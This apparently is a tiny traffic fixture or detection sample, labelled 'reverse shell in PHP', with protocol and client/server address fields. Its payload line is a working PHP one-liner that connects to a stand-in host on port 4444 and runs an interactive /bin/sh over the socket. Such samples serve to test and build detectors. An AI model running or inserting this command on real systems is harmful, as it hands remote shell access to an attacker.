# reverse shell in PHP.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:6000

>>>
php -r '$s=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'\n
